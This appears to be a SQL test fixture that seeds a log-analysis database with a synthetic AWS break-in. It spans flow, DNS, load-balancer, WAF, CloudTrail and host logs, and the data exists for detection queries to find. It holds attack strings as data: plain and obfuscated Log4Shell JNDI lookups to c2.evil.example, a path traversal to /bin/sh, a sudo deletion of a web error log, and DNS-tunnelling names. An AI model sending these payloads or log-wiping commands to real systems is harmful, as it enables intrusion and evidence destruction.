-- A small incident, told by hand: 10.0.1.5 is broken into by 198.51.100.7, talks to c2.evil.example at 203.0.113.66, reaches into
-- 10.0.2.9, and is replayed four days later as 10.9.0.5. Each query has at least one row to find.

CREATE TEMP MACRO v4(a) AS ((ip(a) - 281470681743360::UHUGEINT)::UINTEGER);

INSERT INTO store.capture VALUES
  ('incident', 'incident', '2026-11-10 08:00:00'), ('replay', 'replay', '2026-11-10 09:00:00');

INSERT INTO store.object (object_id, sha256, size, source_kind, uri, acquired_at, capture, log_type, format, envelope,
  "read", "rows", headers, blank, outside, duplicate, unread, rejected, first_time, last_time, problem) VALUES
  (1, 'aa01', 4000, 'local', 'file:///e/flow.log.gz', '2026-11-10 08:01:00', 'incident', 'flow',
    'version …', 'gzip', 45, 40, 1, 1, 1, 0, 0, 2, '2026-11-01 09:00:00', '2026-11-01 16:05:00', NULL),
  (2, 'aa02', 3000, 'local', 'file:///e/dns.log.gz', '2026-11-10 08:02:00', 'incident', 'dns',
    'JSON lines', 'gzip', 15, 13, 0, 0, 0, 1, 0, 1, '2026-11-01 09:00:00', '2026-11-01 10:50:00', NULL),
  (3, 'aa03', 2000, 'cwlogs', 'cwlogs://123456789012/us-east-1//aws/route53/corp.example#1', '2026-11-10 08:03:00', 'incident',
    'zone', '1.0', 'cwlogs', 42, 39, 0, 0, 0, 0, 2, 0, '2026-11-01 08:00:00', '2026-11-01 09:00:00', 'page cut short'),
  (4, 'aa04', 400, 'local', 'file:///r/flow.log', '2026-11-10 09:01:00', 'replay', 'flow',
    'version …', '', 4, 3, 1, 0, 0, 0, 0, 0, '2026-11-05 12:00:00', '2026-11-05 12:06:00', NULL),
  (5, 'aa05', 400, 'local', 'file:///r/dns.log', '2026-11-10 09:02:00', 'replay', 'dns',
    'JSON lines', '', 2, 2, 0, 0, 0, 0, 0, 0, '2026-11-05 12:00:00', '2026-11-05 12:05:00', NULL);

INSERT INTO store.object_part
SELECT object_id, log_type, NULL, NULL, format, "read" - unread, rows, headers, blank, outside, duplicate, 0, 0, rejected,
  first_time, last_time
FROM store.object;
INSERT INTO store.object_part (object_id, log_type, log_stream, format, "read", rows, headers, blank, outside, duplicate, unread, rejected)
VALUES (3, 'unknown', 'web-1/secure', 'no log type fits its content', 2, 0, 0, 0, 0, 0, 2, 0);
-- A page of CloudWatch Logs holds what its streams hold: here two lines of a web server among the zone's.
INSERT INTO store.object_part VALUES
  (3, 'httpd', '/web', 'i-0a1b2c3d', 'combined', 2, 2, 0, 0, 0, 0, 0, 0, 0, '2026-11-01 10:00:00.5', '2026-11-01 10:00:31');

INSERT INTO store.reject VALUES
  (1, 43, '13 fields, want 14', 61, '2 123456789012 eni-0web 10.0.1.5'::BLOB),
  (1, 44, '12 fields, want 14', 12, '\xFF\x00 noise'::BLOB),
  (2, 15, 'query_timestamp: not a time', 30, '{"query_timestamp":"yesterday"}'::BLOB);

INSERT INTO store.event VALUES
  (3, 1, 1, '3650001', '2026-11-01 08:00:00', '2026-11-01 08:00:05'),
  (3, 39, 2, '3650039', '2026-11-01 09:00:00', '2026-11-01 09:40:00');

-- flow

INSERT INTO store.flow_context (context_id, capture, version, account_id, interface_id,
  action, log_status, vpc_id, instance_id, flow_direction, pkt_dst_aws_service) VALUES
  (1, 'incident', 5, '123456789012', 'eni-0web', 'ACCEPT', 'OK', 'vpc-0a', 'i-0web', 'egress', NULL),
  (2, 'incident', 5, '123456789012', 'eni-0web', 'ACCEPT', 'OK', 'vpc-0a', 'i-0web', 'ingress', NULL),
  (3, 'incident', 5, '123456789012', 'eni-0web', 'REJECT', 'OK', 'vpc-0a', 'i-0web', 'ingress', NULL),
  (4, 'incident', 5, '123456789012', 'eni-0web', NULL, 'SKIPDATA', 'vpc-0a', 'i-0web', NULL, NULL),
  (5, 'incident', 5, '123456789012', 'eni-0web', NULL, 'NODATA', 'vpc-0a', 'i-0web', NULL, NULL),
  (6, 'incident', 5, '123456789012', 'eni-0nat', 'ACCEPT', 'OK', 'vpc-0a', NULL, 'egress', NULL),
  (7, 'incident', 5, '123456789012', 'eni-0db', 'ACCEPT', 'OK', 'vpc-0a', 'i-0db', 'ingress', NULL),
  (8, 'incident', 5, '123456789012', 'eni-0db', 'ACCEPT', 'OK', 'vpc-0a', 'i-0db', 'egress', NULL),
  (9, 'replay', 5, '210987654321', 'eni-0rep', 'ACCEPT', 'OK', 'vpc-0r', 'i-0rep', 'egress', NULL),
  (10, 'replay', 5, '210987654321', 'eni-0rep', 'REJECT', 'OK', 'vpc-0r', 'i-0rep', 'egress', NULL),
  (11, 'incident', 5, '123456789012', 'eni-0web', 'ACCEPT', 'OK', 'vpc-0a', 'i-0web', 'egress', 'S3');

CREATE TEMP MACRO flow_row(object_id, row_no, context_id, moment, seconds,
  src, srcport, dst, dstport, protocol, packets, bytes, flags) AS TABLE
  SELECT object_id AS object_id, row_no AS row_no, context_id AS context_id,
    moment::TIMESTAMP AS start, moment::TIMESTAMP + to_seconds(seconds) AS "end",
    v4(src) AS src4, v4(dst) AS dst4, srcport AS srcport, dstport AS dstport, protocol AS protocol, packets AS packets, bytes AS bytes,
    flags AS tcp_flags, false AS utf8_escaped;

-- web, ordinary: HTTPS to www.example.com, S3, an update over IPv6
INSERT INTO store.flow_full BY NAME
  SELECT * FROM flow_row(1, 2, 1, '2026-11-01 09:01:00', 20, '10.0.1.5', 50001, '93.184.216.34', 443, 6, 10, 1500, 3);
INSERT INTO store.flow_full BY NAME
  SELECT * FROM flow_row(1, 3, 2, '2026-11-01 09:01:00', 20, '93.184.216.34', 443, '10.0.1.5', 50001, 6, 12, 20000, 19);
INSERT INTO store.flow_full BY NAME
  SELECT * FROM flow_row(1, 4, 11, '2026-11-01 09:30:00', 30, '10.0.1.5', 50002, '52.95.128.179', 443, 6, 20, 9000, 3);
INSERT INTO store.flow_full (object_id, row_no, context_id, start, "end", src6,
  dst6, srcport, dstport, protocol, packets, bytes, tcp_flags, utf8_escaped)
  VALUES (1, 5, 1, '2026-11-01 09:40:00', '2026-11-01 09:40:10',
    ip('2001:db8::5'), ip('2001:db8:ffff::1'), 50003, 443, 6, 4, 400, 2, false);
-- knocking, then in
INSERT INTO store.flow_full BY NAME
  SELECT * FROM flow_row(1, 6, 3, '2026-11-01 09:50:00', 1, '198.51.100.7', 41000, '10.0.1.5', 23, 6, 1, 40, 2);
INSERT INTO store.flow_full BY NAME
  SELECT * FROM flow_row(1, 7, 3, '2026-11-01 09:50:01', 1, '198.51.100.7', 41001, '10.0.1.5', 3389, 6, 1, 40, 2);
INSERT INTO store.flow_full BY NAME
  SELECT * FROM flow_row(1, 8, 3, '2026-11-01 09:50:02', 1, '198.51.100.8', 41001, '10.0.1.5', 23, 6, 1, 40, 2);
INSERT INTO store.flow_full BY NAME
  SELECT * FROM flow_row(1, 9, 2, '2026-11-01 10:00:00', 59, '198.51.100.7', 41002, '10.0.1.5', 22, 6, 30, 6000, 2);
INSERT INTO store.flow_full BY NAME
  SELECT * FROM flow_row(1, 10, 1, '2026-11-01 10:00:00', 59, '10.0.1.5', 22, '198.51.100.7', 41002, 6, 28, 7000, 18);
-- the call-out: one connection of two hours, a record each ten minutes and direction
INSERT INTO store.flow_full (object_id, row_no, context_id, start, "end", src4,
  dst4, srcport, dstport, protocol, packets, bytes, tcp_flags, utf8_escaped)
  SELECT 1, 11 + i, 1, TIMESTAMP '2026-11-01 10:05:00' + to_minutes(10 * i), TIMESTAMP '2026-11-01 10:14:00' + to_minutes(10 * i),
    v4('10.0.1.5'), v4('203.0.113.66'), 50010, 443, 6, 20, 2000, CASE i WHEN 0 THEN 2 ELSE 0 END, false FROM range(12) r(i);
INSERT INTO store.flow_full BY NAME
  SELECT * FROM flow_row(1, 23, 2, '2026-11-01 10:05:00', 540, '203.0.113.66', 443, '10.0.1.5', 50010, 6, 18, 900, 18);
-- inside: recorded by both interfaces
INSERT INTO store.flow_full BY NAME
  SELECT * FROM flow_row(1, 24, 1, '2026-11-01 10:20:00', 50, '10.0.1.5', 50020, '10.0.2.9', 5432, 6, 40, 8000, 2);
INSERT INTO store.flow_full BY NAME
  SELECT * FROM flow_row(1, 25, 7, '2026-11-01 10:20:00', 50, '10.0.1.5', 50020, '10.0.2.9', 5432, 6, 40, 8000, 2);
INSERT INTO store.flow_full BY NAME
  SELECT * FROM flow_row(1, 26, 8, '2026-11-01 10:20:00', 50, '10.0.2.9', 5432, '10.0.1.5', 50020, 6, 400, 500000, 18);
-- another resolver, a bare address, a tunnel, ICMP
INSERT INTO store.flow_full BY NAME
  SELECT * FROM flow_row(1, 27, 1, '2026-11-01 10:30:00', 5, '10.0.1.5', 50030, '8.8.8.8', 53, 17, 2, 150, 0);
INSERT INTO store.flow_full BY NAME
  SELECT * FROM flow_row(1, 28, 2, '2026-11-01 10:30:00', 5, '8.8.8.8', 53, '10.0.1.5', 50030, 17, 2, 300, 0);
INSERT INTO store.flow_full BY NAME
  SELECT * FROM flow_row(1, 29, 1, '2026-11-02 10:40:00', 50, '10.0.1.5', 50040, '198.51.100.99', 4444, 6, 90, 900000, 2);
INSERT INTO store.flow_full BY NAME
  SELECT * FROM flow_row(1, 30, 1, '2026-11-01 10:45:00', 5, '10.0.1.5', 0, '198.51.100.99', 0, 47, 5, 700, 0);
INSERT INTO store.flow_full BY NAME
  SELECT * FROM flow_row(1, 31, 1, '2026-11-01 10:46:00', 5, '10.0.1.5', 0, '10.0.2.9', 0, 1, 5, 420, 0);
-- through NAT: the packet's own destination differs
INSERT INTO store.flow_full (object_id, row_no, context_id, start, "end", src4, dst4,
  srcport, dstport, protocol, packets, bytes, tcp_flags, pkt_src4, pkt_dst4, utf8_escaped)
  VALUES (1, 32, 6, '2026-11-01 10:50:00', '2026-11-01 10:50:30', v4('10.0.3.7'),
    v4('10.0.0.220'), 50050, 443, 6, 9, 999, 2, v4('10.0.3.7'), v4('203.0.113.66'), false);
-- lost, silent, and back after a hole
INSERT INTO store.flow_plain (object_id, row_no, context_id, start, "end") VALUES
  (1, 33, 4, '2026-11-01 12:10:00', '2026-11-01 12:19:00'), (1, 34, 5, '2026-11-01 12:20:00', '2026-11-01 12:29:00');
INSERT INTO store.flow_full BY NAME
  SELECT * FROM flow_row(1, 35, 1, '2026-11-01 16:00:00', 300, '10.0.1.5', 50060, '93.184.216.34', 443, 6, 10, 1500, 3);
-- the replay
INSERT INTO store.flow_full BY NAME
  SELECT * FROM flow_row(4, 2, 9, '2026-11-05 12:00:00', 30, '10.9.0.5', 50100, '93.184.216.34', 443, 6, 10, 1500, 2);
INSERT INTO store.flow_full BY NAME
  SELECT * FROM flow_row(4, 3, 10, '2026-11-05 12:05:00', 30, '10.9.0.5', 50101, '203.0.113.66', 443, 6, 3, 180, 2);
INSERT INTO store.flow_full BY NAME
  SELECT * FROM flow_row(4, 4, 10, '2026-11-05 12:06:00', 30, '10.9.0.5', 50102, '203.0.113.66', 443, 6, 3, 180, 2);

-- dns

INSERT INTO store.dns_context (context_id, capture, version, account_id,
  region, vpc_id, query_type, query_class, rcode, transport, src_instance,
  src_resolver_endpoint, src_resolver_network_interface, firewall_rule_action, firewall_rule_group_id, firewall_domain_list_id) VALUES
  (1, 'incident', '1.100000', '123456789012', 'us-east-1', 'vpc-0a', 'A', 'IN', 'NOERROR', 'UDP', 'i-0web', NULL, NULL, NULL, NULL, NULL),
  (2, 'incident', '1.100000', '123456789012', 'us-east-1', 'vpc-0a', 'A', 'IN', 'NXDOMAIN', 'UDP', 'i-0web', NULL, NULL, NULL, NULL, NULL),
  (3, 'incident', '1.100000', '123456789012', 'us-east-1', 'vpc-0a', 'TXT', 'IN', 'NOERROR', 'UDP', 'i-0web', NULL, NULL, NULL, NULL, NULL),
  (4, 'incident', '1.100000', '123456789012', 'us-east-1', 'vpc-0a', 'A',
    'IN', 'NOERROR', 'UDP', NULL, 'rslvr-in-0e', 'rni-0e', NULL, NULL, NULL),
  (5, 'incident', '1.100000', '123456789012', 'us-east-1', 'vpc-0a', 'A', 'IN',
    'NOERROR', 'UDP', 'i-0web', NULL, NULL, 'BLOCK', 'rslvr-frg-1', 'rslvr-fdl-1'),
  (6, 'incident', '1.100000', '123456789012', 'us-east-1', 'vpc-0a', 'MX', 'IN', 'NOERROR', 'UDP', 'i-0web', NULL, NULL, NULL, NULL, NULL),
  (7, 'replay', '1.100000', '210987654321', 'us-east-1', 'vpc-0r', 'A', 'IN', 'NOERROR', 'UDP', 'i-0rep', NULL, NULL, NULL, NULL, NULL),
  (8, 'replay', '1.100000', '210987654321', 'us-east-1', 'vpc-0r', 'A', 'IN', 'SERVFAIL', 'UDP', 'i-0rep', NULL, NULL, NULL, NULL, NULL),
  (9, 'incident', '1.100000', '123456789012', 'us-east-1', 'vpc-0a', 'A', 'IN', 'NOERROR', 'UDP', 'i-0db', NULL, NULL, NULL, NULL, NULL);

CREATE TEMP MACRO dns_row(object_id, row_no, context_id, moment, src, port, name, domain, longest, entropy, n) AS TABLE
  SELECT object_id AS object_id, row_no AS row_no, context_id AS context_id, moment::TIMESTAMP AS query_timestamp,
    name AS name, domain AS registered_domain, len(string_split(name, '.')) AS labels,
    longest AS longest_label, entropy AS entropy, v4(src) AS src4, port AS srcport, n AS answers_n, false AS utf8_escaped;

INSERT INTO store.dns BY NAME
  SELECT * FROM dns_row(2, 1, 1, '2026-11-01 09:00:00', '10.0.1.5', 40001, 'www.example.com', 'example.com', 7, 0, 2);
INSERT INTO store.dns BY NAME
  SELECT * FROM dns_row(2, 2, 9, '2026-11-01 09:05:00', '10.0.2.9', 40002, 'www.example.com', 'example.com', 7, 0, 2);
INSERT INTO store.dns BY NAME
  SELECT * FROM dns_row(2, 3, 1, '2026-11-01 10:04:30', '10.0.1.5', 40003, 'c2.evil.example', 'evil.example', 7, 1, 1);
INSERT INTO store.dns BY NAME
  SELECT * FROM dns_row(2, 4, 2, '2026-11-01 10:06:00', '10.0.1.5', 40004, 'qwzx1.evil.example', 'evil.example', 7, 2.3, 0);
INSERT INTO store.dns BY NAME
  SELECT * FROM dns_row(2, 5, 2, '2026-11-01 10:06:01', '10.0.1.5', 40005, 'qwzx2.bad.example', 'bad.example', 7, 2.3, 0);
INSERT INTO store.dns BY NAME
  SELECT * FROM dns_row(2, 6, 3, '2026-11-01 10:10:00', '10.0.1.5', 40006,
    'mzuw4zzamzxxeidpnzsq2y3pnu000001abcdef.t.evil.example', 'evil.example', 38, 4.1, 1);
INSERT INTO store.dns BY NAME
  SELECT * FROM dns_row(2, 7, 1, '2026-11-01 10:15:00', '10.0.1.5', 40007, 'meta.evil.example', 'evil.example', 7, 2, 1);
INSERT INTO store.dns BY NAME
  SELECT * FROM dns_row(2, 8, 1, '2026-11-01 10:16:00', '10.0.1.5', 40008, 'unused.evil.example', 'evil.example', 7, 2, 1);
INSERT INTO store.dns BY NAME
  SELECT * FROM dns_row(2, 9, 5, '2026-11-01 10:17:00', '10.0.1.5', 40009, 'bad.example.net', 'example.net', 7, 1.5, 1);
INSERT INTO store.dns BY NAME
  SELECT * FROM dns_row(2, 10, 4, '2026-11-01 10:18:00', '192.168.7.7', 40010, 'db.corp.internal', 'corp.internal', 8, 1, 1);
INSERT INTO store.dns BY NAME
  SELECT * FROM dns_row(2, 11, 6, '2026-11-01 10:19:00', '10.0.1.5', 40011, 'corp.example', 'corp.example', 7, 0, 1);
INSERT INTO store.dns BY NAME
  SELECT * FROM dns_row(2, 12, 9, '2026-11-01 08:30:00', '10.0.2.9', 40012, 'admin.corp.example', 'corp.example', 7, 2, 1);
INSERT INTO store.dns BY NAME
  SELECT * FROM dns_row(2, 13, 1, '2026-11-01 10:50:00', '10.0.1.5', 40013, 'c2.evil.example', 'evil.example', 7, 1, 1);
INSERT INTO store.dns BY NAME
  SELECT * FROM dns_row(5, 1, 7, '2026-11-05 12:00:00', '10.9.0.5', 40101, 'www.example.com', 'example.com', 7, 0, 2);
INSERT INTO store.dns BY NAME
  SELECT * FROM dns_row(5, 2, 8, '2026-11-05 12:05:00', '10.9.0.5', 40102, 'c2.evil.example', 'evil.example', 7, 1, 0);

INSERT INTO store.dns_answer_context VALUES (1, 'A', 'IN'), (2, 'AAAA', 'IN'), (3, 'CNAME', 'IN'), (4, 'TXT', 'IN'), (5, 'MX', 'IN');
INSERT INTO store.dns_answer (object_id, row_no, answer_no, context_id,
  query_timestamp, name, src4, rdata, answer_context_id, rdata4, utf8_escaped)
  SELECT d.object_id, d.row_no, a.no, d.context_id, d.query_timestamp, d.name, d.src4,
    a.rdata, (SELECT context_id FROM store.dns_answer_context WHERE type = a.type),
    CASE WHEN a.type = 'A' THEN v4(a.rdata) END, false
  FROM store.dns d JOIN (VALUES
    ('www.example.com', 1, 'edge.cdn.example.', 'CNAME'), ('www.example.com', 2, '93.184.216.34', 'A'),
    ('c2.evil.example', 1, '203.0.113.66', 'A'),
    ('mzuw4zzamzxxeidpnzsq2y3pnu000001abcdef.t.evil.example', 1, '"b64:cm0gLXJm"', 'TXT'), ('meta.evil.example', 1, '169.254.169.254', 'A'),
    ('unused.evil.example', 1, '203.0.113.200', 'A'), ('bad.example.net', 1, '0.0.0.0', 'A'), ('db.corp.internal', 1, '10.0.2.9', 'A'),
    ('corp.example', 1, '10 mail.corp.example.', 'MX'), ('admin.corp.example', 1, '10.0.1.5', 'A')
  ) a(name, no, rdata, type) ON a.name = d.name
  WHERE d.answers_n > 0;

-- zone: a word list of 36 names in a minute, a transfer tried, and one name that exists asked for again

INSERT INTO store.zone_context (context_id, capture, log_group, log_stream, version,
  hosted_zone_id, query_type, response_code, protocol, edge_location) VALUES
  (1, 'incident', '/aws/route53/corp.example', 'Z0ABC/IAD12', '1.0', 'Z0ABC', 'A', 'NXDOMAIN', 'UDP', 'IAD12'),
  (2, 'incident', '/aws/route53/corp.example', 'Z0ABC/IAD12', '1.0', 'Z0ABC', 'A', 'NOERROR', 'UDP', 'IAD12'),
  (3, 'incident', '/aws/route53/corp.example', 'Z0ABC/FRA6', '1.0', 'Z0ABC', 'AXFR', 'REFUSED', 'TCP', 'FRA6');

INSERT INTO store.zone (object_id, row_no, context_id, query_timestamp, name, registered_domain,
  labels, longest_label, entropy, resolver4, edns_client_subnet, edns_first, edns_last, utf8_escaped)
  SELECT 3, 1 + i, CASE WHEN i = 20 THEN 2 ELSE 1 END, TIMESTAMP '2026-11-01 08:00:00' + to_seconds(i),
    CASE WHEN i = 20 THEN 'admin' ELSE 'word' || i END || '.corp.example',
    'corp.example', 3, 7, 2.5, v4('192.0.2.53'), '198.51.100.0/24',
    cidr_first('198.51.100.0/24'), cidr_last('198.51.100.0/24'), false
  FROM range(36) r(i);
INSERT INTO store.zone (object_id, row_no, context_id, query_timestamp, name,
  registered_domain, labels, longest_label, entropy, resolver4, utf8_escaped) VALUES
  (3, 37, 3, '2026-11-01 08:05:00', 'corp.example', 'corp.example', 2, 7, 0, v4('198.51.100.7'), false),
  (3, 38, 2, '2026-11-01 08:40:00', 'www.corp.example', 'corp.example', 3, 7, 0, v4('9.9.9.9'), false),
  (3, 39, 2, '2026-11-01 09:00:00', 'admin.corp.example', 'corp.example', 3, 7, 2.3, v4('198.51.100.7'), false);

-- whose addresses they are: two MaxMind DBs, one of them in two versions, and AWS's ranges
INSERT INTO store.network_file VALUES
  (1, 'mmdb', 'GeoLite2-City.mmdb', 'GeoLite2-City', TIMESTAMP '2026-09-01', TIMESTAMP '2026-11-02', 1, 1000, repeat('a', 64)),
  (2, 'mmdb', 'GeoLite2-City-new.mmdb', 'GeoLite2-City', TIMESTAMP '2026-10-28', TIMESTAMP '2026-11-02', 2, 2000, repeat('b', 64)),
  (3, 'mmdb', 'GeoLite2-ASN.mmdb', 'GeoLite2-ASN', TIMESTAMP '2026-10-29', TIMESTAMP '2026-11-02', 1, 1000, repeat('c', 64)),
  (4, 'ip-ranges', 'ip-ranges.json', 'AWS ip-ranges', TIMESTAMP '2026-10-30', TIMESTAMP '2026-11-02', 1, 1000, repeat('d', 64));
INSERT INTO store.network VALUES
  (1, ip('203.0.113.0'), ip('203.0.113.255'), 'DE', NULL, NULL, NULL, NULL, NULL, NULL),
  (2, ip('203.0.113.0'), ip('203.0.113.127'), 'NL', 'North Holland', 'Amsterdam', NULL, NULL, NULL, NULL),
  (2, ip('198.51.100.0'), ip('198.51.100.255'), 'US', 'Virginia', NULL, NULL, NULL, NULL, NULL),
  (3, ip('203.0.113.64'), ip('203.0.113.127'), NULL, NULL, NULL, 64500, 'Example Hosting', NULL, NULL),
  (4, ip('198.51.100.0'), ip('198.51.100.127'), NULL, NULL, NULL, NULL, NULL, 'S3', 'eu-west-1');

-- Requests: 198.51.100.7 tries a door of the web server and goes through it; the load balancer and the web server both saw it.

INSERT INTO store.alb_context (context_id, capture, type, elb, target_group_arn, actions_executed) VALUES
  (1, 'incident', 'https', 'app/web/50dc6c495c0c9188',
    'arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/web/73e2d6bc24d8a067', 'forward'),
  (2, 'incident', 'https', 'app/web/50dc6c495c0c9188', NULL, 'waf');

INSERT INTO store.alb (object_id, row_no, context_id, time, request_creation_time, client4, client_port, target4, target_port,
  target_processing_us, elb_status_code, target_status_code, received_bytes, sent_bytes, request_verb, request_proto,
  scheme, host, url_port, path, query, user_agent, trace_root, path_decoded, attack, utf8_escaped) VALUES
  (6, 1, 2, '2026-11-01 09:59:58.2', '2026-11-01 09:59:58.1', v4('198.51.100.7'), 40001, NULL, NULL,
    NULL, 403, NULL, 200, 300, 'GET', 'HTTP/1.1', 'https', 'www.corp.example', 443, '/', 'x=${jndi:ldap://c2.evil.example/a}',
    'curl/7.88', '1-58337280-1d84f3d73c47ec4e58577259', NULL, 'log4shell', false),
  (6, 2, 1, '2026-11-01 10:00:01.2', '2026-11-01 10:00:01.1', v4('198.51.100.7'), 40002, v4('10.0.1.5'), 80,
    4000, 200, 200, 200, 900, 'POST', 'HTTP/1.1', 'https', 'www.corp.example', 443, '/cgi-bin/.%2e/.%2e/bin/sh', NULL,
    'curl/7.88', '1-58337281-1d84f3d73c47ec4e58577259', '/cgi-bin/../../bin/sh', 'traversal,command', false),
  (6, 3, 1, '2026-11-01 10:20:01.2', '2026-11-01 10:20:01.1', v4('203.0.113.50'), 40003, v4('10.0.1.5'), 80,
    4000, 200, 200, 200, 5000, 'GET', 'HTTP/1.1', 'https', 'www.corp.example', 443, '/', NULL,
    'Mozilla/5.0', '1-58337290-1d84f3d73c47ec4e58577259', NULL, NULL, false);

INSERT INTO store.httpd_context (context_id, capture, log_group, log_stream, instance_id, method, protocol) VALUES
  (1, 'incident', '/web/ec2', 'i-0a1b2c3d', 'i-0a1b2c3d', 'POST', 'HTTP/1.1'),
  (2, 'incident', '/web/ec2', 'i-0a1b2c3d', 'i-0a1b2c3d', 'GET', 'HTTP/1.1');

INSERT INTO store.httpd (object_id, row_no, context_id, time, client4, path, status, bytes_out, user_agent, trace_root,
  path_decoded, attack, utf8_escaped) VALUES
  (7, 1, 1, '2026-11-01 10:00:01', v4('10.0.9.4'), '/cgi-bin/.%2e/.%2e/bin/sh', 200, 800, 'curl/7.88',
    '1-58337281-1d84f3d73c47ec4e58577259', '/cgi-bin/../../bin/sh', 'traversal,command', false),
  (7, 2, 2, '2026-11-01 10:00:31', v4('10.0.9.4'), '/', 200, 800, 'Mozilla/5.0', NULL, NULL, NULL, false);
-- change: web's role stops the flow log from 203.0.113.66

INSERT INTO store.change_context (context_id, capture, event_version, event_type, event_source, event_name, effect, aws_region,
  recipient_account_id, user_agent, error_code, user_identity_type, user_identity_arn, user_identity_account_id,
  user_identity_access_key_id, user_identity_user_name) VALUES
  (1, 'incident', '1.10', 'AwsApiCall', 'ec2.amazonaws.com', 'DeleteFlowLogs', 'stops a log', 'eu-central-1', '123456789012',
    'aws-cli/2.17', NULL, 'AssumedRole', 'arn:aws:sts::123456789012:assumed-role/web/i-0web', '123456789012', 'ASIAX', 'web'),
  (2, 'incident', '1.10', 'AwsApiCall', 'logs.amazonaws.com', 'DeleteLogGroup', 'deletes records', 'eu-central-1', '123456789012',
    'aws-cli/2.17', 'AccessDenied', 'AssumedRole', 'arn:aws:sts::123456789012:assumed-role/web/i-0web', '123456789012', 'ASIAX', 'web'),
  (3, 'incident', '1.10', 'AwsApiCall', 'ec2.amazonaws.com', 'CreateFlowLogs', 'starts a log', 'eu-central-1', '123456789012',
    'console', NULL, 'IAMUser', 'arn:aws:iam::123456789012:user/ops', '123456789012', 'AKIAX', 'ops');
INSERT INTO store.change (object_id, row_no, context_id, event_time, event_id, source_ip_address, source4, resource, utf8_escaped)
VALUES
  (3, 101, 1, '2026-11-01 10:20:58', 'e1', '203.0.113.66', v4('203.0.113.66'), 'fl-0web', false),
  (3, 102, 2, '2026-11-01 10:21:10', 'e2', '203.0.113.66', v4('203.0.113.66'), '/web/ec2', false),
  (3, 103, 3, '2026-11-01 16:00:00', 'e3', 'cloudformation.amazonaws.com', NULL, 'eni-0web', false);

-- host_log: web's error log ends at 10:21, its auth log goes on

INSERT INTO store.host_log_context (context_id, capture, log_group, log_stream, format, host, program, severity, action,
  instance_id, year_assumed, zone_assumed, zone_ambiguous) VALUES
  (1, 'incident', '/web/error', 'i-0web', 'apache_error', 'web-1', 'core', 'error', 'invalid path', 'i-0web', false, true, false),
  (2, 'incident', '/web/secure', 'i-0web', 'syslog', 'web-1', 'sshd', NULL, 'accepted', 'i-0web', true, true, false),
  (3, 'incident', '/web/secure', 'i-0web', 'syslog', 'web-1', 'sshd', NULL, 'failed', 'i-0web', true, true, false),
  (4, 'incident', '/web/secure', 'i-0web', 'syslog', 'web-1', 'sudo', NULL, 'sudo', 'i-0web', true, true, false);
INSERT INTO store.host_log (object_id, row_no, context_id, time, pid, client4, client_port, "user", message, lines, utf8_escaped)
VALUES
  (3, 201, 1, '2026-11-01 10:04:58', 2190, v4('198.51.100.7'), 40001, NULL, 'AH10244: invalid URI path (/cgi-bin/.%2e/bin/sh)', 1, false),
  (3, 202, 1, '2026-11-01 10:20:50', 2190, v4('198.51.100.7'), 40002, NULL, 'AH10244: invalid URI path (/cgi-bin/.%2e/bin/sh)', 1, false),
  (3, 203, 3, '2026-11-01 10:10:00', 812, v4('198.51.100.7'), 40022, 'root',
   'Failed password for root from 198.51.100.7 port 40022 ssh2', 1, false),
  (3, 204, 2, '2026-11-01 10:10:05', 812, v4('198.51.100.7'), 40023, 'ec2-user',
   'Accepted publickey for ec2-user from 198.51.100.7 port 40023 ssh2', 1, false),
  (3, 205, 4, '2026-11-01 10:21:20', NULL, NULL, NULL, 'ec2-user',
   'ec2-user : PWD=/ ; USER=root ; COMMAND=/bin/rm /var/log/httpd/error_log', 1, false);

-- waf: one request blocked, the next one let in

INSERT INTO store.waf_context (context_id, capture, format_version, web_acl_id, action, terminating_rule_id, terminating_rule_type,
  http_source_name, http_source_id, country, http_version, http_method) VALUES
  (1, 'incident', '1', 'arn:aws:wafv2:eu-central-1:123456789012:regional/webacl/web/1', 'BLOCK', 'Log4Shell', 'REGULAR', 'ALB',
    '123456789012-app/web/1', 'NL', 'HTTP/1.1', 'GET'),
  (2, 'incident', '1', 'arn:aws:wafv2:eu-central-1:123456789012:regional/webacl/web/1', 'ALLOW', 'Default_Action', 'REGULAR', 'ALB',
    '123456789012-app/web/1', 'NL', 'HTTP/1.1', 'GET');
INSERT INTO store.waf (object_id, row_no, context_id, timestamp, client4, request_id, host, path, user_agent, attack, utf8_escaped)
VALUES
  (3, 301, 1, '2026-11-01 10:04:50', v4('198.51.100.7'), '1-a-1', 'www.corp.example', '/', 'x', 'log4shell', false),
  (3, 302, 2, '2026-11-01 10:05:01', v4('198.51.100.7'), '1-a-2', 'www.corp.example', '/login', 'x', 'log4shell', false);
INSERT INTO store.waf_rule_context (context_id, capture, part, rule_id, action) VALUES (1, 'incident', 'terminating', 'Log4Shell', 'BLOCK');
INSERT INTO store.waf_rule (object_id, row_no, context_id, rule_no, timestamp, client4, utf8_escaped)
VALUES (3, 301, 1, 1, '2026-11-01 10:04:50', v4('198.51.100.7'), false);
INSERT INTO store.waf_header_context (context_id, capture, header) VALUES (1, 'incident', 'x-api-version');
INSERT INTO store.waf_header (object_id, row_no, context_id, header_no, timestamp, value, utf8_escaped)
VALUES (3, 302, 1, 1, '2026-11-01 10:05:01', '${${::-j}ndi:ldap://c2.evil.example/a}', false);

-- tls: one connection, and one that failed

INSERT INTO store.tls_context (context_id, capture, format, elb, tls_protocol, tls_verify_status) VALUES
  (1, 'incident', 'nlb', 'net/web/1', 'tlsv13', NULL), (2, 'incident', 'alb_connection', 'app/web/1', NULL, 'Failed:ClientCertUntrusted');
INSERT INTO store.tls (object_id, row_no, context_id, time, client4, client_port, destination4, destination_port, tls_handshake_us,
  received_bytes, sent_bytes, domain_name, utf8_escaped) VALUES
  (3, 401, 1, '2026-11-01 10:04:59', v4('198.51.100.7'), 40001, v4('10.0.1.9'), 443, 2000, 98, 246, 'www.corp.example', false),
  (3, 402, 2, '2026-11-01 10:04:40', v4('198.51.100.7'), 40000, v4('10.0.1.9'), 443, NULL, NULL, NULL, NULL, false);

-- finding: one about the call-out, in two versions, and one about the names that were asked for

INSERT INTO store.finding_context (context_id, capture, account_id, region, type, severity, resource_type, action_type, instance_id) VALUES
  (1, 'incident', '123456789012', 'eu-central-1', 'Backdoor:EC2/C&CActivity.B', '8.0', 'Instance', 'NETWORK_CONNECTION', 'i-0web'),
  (2, 'incident', '123456789012', 'eu-central-1', 'Trojan:EC2/DNSDataExfiltration', '8.0', 'Instance', 'DNS_REQUEST', 'i-0web');
INSERT INTO store.finding (object_id, row_no, context_id, updated_at, event_first_seen, event_last_seen, finding_id, title, private4,
  remote4, remote_port, direction, count, utf8_escaped) VALUES
